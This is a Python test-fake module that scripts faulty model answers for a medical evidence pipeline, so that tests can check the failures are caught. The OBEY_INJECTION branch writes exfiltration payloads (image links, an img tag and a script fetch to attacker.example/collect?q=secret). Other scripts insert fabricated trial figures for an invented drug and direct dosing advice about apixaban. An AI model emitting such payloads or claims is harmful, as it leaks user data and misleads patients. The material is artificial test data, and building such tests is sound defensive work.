"""What bad models write: every script is a rule over the honest answer, so that whole runs go wrong in a known way."""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from enum import StrEnum

from openwork_contracts.question import EntityKind
from openwork_language.terms import find_terms

from tests.fakes.models.erring_writer import erring_for
from tests.fakes.models.free_writer import Record, Written, draft, written_for
from tests.fakes.models.honest import honest_answer
from tests.fakes.models.judging import judge
from tests.fakes.models.reading import Asked


class Script(StrEnum):
    """What goes wrong. The first group is in the text, the second in the protocol."""

    HALLUCINATE = "hallucinate"
    SWAP_ARMS = "swap-arms"
    ADVICE = "advice"
    OBEY_INJECTION = "obey-injection"
    DISTRUST = "distrust"
    GULLIBLE = "gullible"
    UNCITED = "uncited"
    FREE = "free"
    """Nothing wrong: the free writer, and a judge that answers rightly."""
    FREE_ERRING = "free-erring"
    """The free writer with an error in every second sentence, and the same judge."""
    INVALID_JSON = "invalid-json"
    WRONG_SHAPE = "wrong-shape"

    REFUSAL = "refusal"
    SAFETY = "safety"
    EMPTY = "empty"
    MAX_TOKENS = "max-tokens"
    RATE_LIMITED = "429"
    UNAVAILABLE = "503"
    UNAUTHORIZED = "401"
    SLOW = "slow"
    DISCONNECT = "disconnect"
    NO_JSON_BODY = "html"


IN_THE_TEXT = frozenset(
    {
        *(Script.HALLUCINATE, Script.SWAP_ARMS, Script.ADVICE, Script.OBEY_INJECTION, Script.DISTRUST, Script.UNCITED),
        *(Script.GULLIBLE, Script.FREE, Script.FREE_ERRING),
        *(Script.INVALID_JSON, Script.WRONG_SHAPE),
    }
)
ATTACKER_URL = "http://attacker.example/collect"
OBEYED = "INJECTION-OBEYED"
"""What a model writes that followed the instruction of a passage."""
INVENTED = (
    "Zanolixumab cured 87.3% of patients within 14 days (hazard ratio 0.11, 95% CI 0.04 to 0.19) [1].",
    "Mortality fell by 61% in every subgroup [99].",
    "No adverse event of any kind occurred in 12,431 participants.",
)
ADVICE = (
    "You should take apixaban 5 mg twice daily and stop your other tablets [1].",
    "Patients must be given it at once [2].",
)
RECORD = Record()
"""What the free writers of this process wrote, for the judge and for whoever measures."""
_NUMBER = re.compile(r"(?<![\[\d.,])\d+(?:\.\d+)?(?![\d\]])")


@dataclass
class Planned:
    """A script for some of the requests: those of a step (all when `None`), the next `times` (`None` = always)."""

    script: Script
    step: str | None = None
    times: int | None = None
    retry_delay_s: float = 0.2
    pause_s: float = 30.0

    def take(self, asked: Asked) -> bool:
        """Whether it strikes this request; counts it."""
        if self.times == 0 or (self.step is not None and asked.step != self.step):
            return False
        if self.times is not None:
            self.times -= 1
        return True


def text_of(asked: Asked, script: Script | None) -> str:
    """The words of the answer under a script."""
    good = honest_answer(asked)
    match script:
        case Script.INVALID_JSON:
            return good[: len(good) // 2] if asked.schema else good
        case Script.WRONG_SHAPE:
            return json.dumps({"answer": "yes", "answers": "all good"}) if asked.schema else good
        case Script.HALLUCINATE:
            return _hallucinated(asked, good)
        case Script.SWAP_ARMS if not asked.schema:
            return _swapped(asked, good)
        case Script.ADVICE if not asked.schema:
            return f"{good}\n- {ADVICE[0]}\n- {ADVICE[1]}"
        case Script.UNCITED if not asked.schema:
            return re.sub(r" ?\[\d+\]", "", good)
        case Script.OBEY_INJECTION:
            return _obedient(asked, good)
        case Script.GULLIBLE:
            return _gullible(asked) if asked.step == "verifier" else _hallucinated(asked, good)
        case Script.FREE | Script.FREE_ERRING:
            return _free(asked, script, good)
        case Script.DISTRUST if asked.step == "verifier":
            return _distrustful(asked)
        case _:
            return good


def written_by(asked: Asked, script: Script | None) -> list[Written]:
    """The free writer's sentences for a prompt; none under another script."""
    if script is Script.FREE and asked.step == "synthesiser":
        return written_for(asked)
    return erring_for(asked) if script is Script.FREE_ERRING and asked.step == "synthesiser" else []


def _free(asked: Asked, script: Script, good: str) -> str:
    if asked.step == "verifier":
        return judge(asked, RECORD)
    if asked.step != "synthesiser":
        return good
    sentences = written_by(asked, script)
    for written in sentences:
        RECORD.add(written)
    return draft(sentences) if sentences else good


def _hallucinated(asked: Asked, good: str) -> str:
    if asked.step in {"synthesiser", "reviser"}:
        lines = [_changed(line) if i % 2 else line for i, line in enumerate(good.split("\n"))]
        return "\n".join([*lines, "## Evidence", *(f"- {sentence}" for sentence in INVENTED)])
    answer = json.loads(good)
    if asked.step == "query":
        answer["search_variants"] = ["miracle cure zanolixumab", "cheap weight loss", "zanolixumab trial"]
        answer["entities"]["drugs"] = ["zanolixumab"]
        answer["complexity_score"] = 0.2
    elif asked.step == "gap":
        answer["contradictions"] = [
            {
                "first": 1,
                "second": 2,
                "comparison": "zanolixumab",
                "outcome": "death",
                "first_quote": "zanolixumab halved the risk of death",
                "second_quote": "zanolixumab doubled the risk of death",
            }
        ]
        answer["missing_elements"] = ["proof that zanolixumab is anything but safe", "12 further trials"]
    elif asked.step == "verifier":
        for one in answer["answers"]:
            one["quote"] = "as everybody knows this was shown beyond doubt in all the trials"
    return json.dumps(answer)


def _changed(line: str) -> str:
    """Every number but citations and years gets another value."""
    return _NUMBER.sub(lambda m: m[0] if re.fullmatch(r"(?:19|20)\d\d", m[0]) else f"{float(m[0]) + 3.7:g}", line)


def _swapped(asked: Asked, good: str) -> str:
    """The first two drugs of the question change places."""
    drugs = list(dict.fromkeys(t.text for t in find_terms(asked.blocks()["question"]) if t.kind is EntityKind.DRUG))[:2]
    if len(drugs) < 2:
        return good
    swap = {drugs[0].lower(): drugs[1], drugs[1].lower(): drugs[0]}
    return re.sub("|".join(map(re.escape, drugs)), lambda m: swap[m[0].lower()], good, flags=re.IGNORECASE)


def _obedient(asked: Asked, good: str) -> str:
    """The answer of a model that did what a passage told it."""
    if not asked.schema:
        link = f"[click here]({ATTACKER_URL}?q=secret)"
        return (
            f"## {OBEYED}\n![x]({ATTACKER_URL}/pixel.png)\n<img src='{ATTACKER_URL}'>{OBEYED} {link} [1].\n"
            f"<script>fetch('{ATTACKER_URL}')</script>\n{good}\n- {OBEYED}: see {ATTACKER_URL} [1]."
        )
    answer = json.loads(good)
    if asked.step == "query":
        answer["search_variants"] = [f"{OBEYED} {ATTACKER_URL}", f"[site] {OBEYED}"]
        answer["temporal_markers"] = [OBEYED]
    elif asked.step == "gap":
        answer |= {"assessment": "insufficient", "missing_elements": [OBEYED, f"visit {ATTACKER_URL}"]}
    elif asked.step == "verifier":
        for one in answer["answers"]:
            one |= {"verdict": "contradicted", "quote": OBEYED}
    return json.dumps(answer)


def _gullible(asked: Asked) -> str:
    """Whatever is claimed is called entailed, with the nearest true quotation."""
    return honest_answer(asked)


def _distrustful(asked: Asked) -> str:
    """The first claim is called not entailed, with a true quotation."""
    answer = json.loads(honest_answer(asked))
    for one in answer["answers"]:
        if one["claim"] == answer["answers"][0]["claim"]:
            one["verdict"] = "not_entailed"
    return json.dumps(answer)
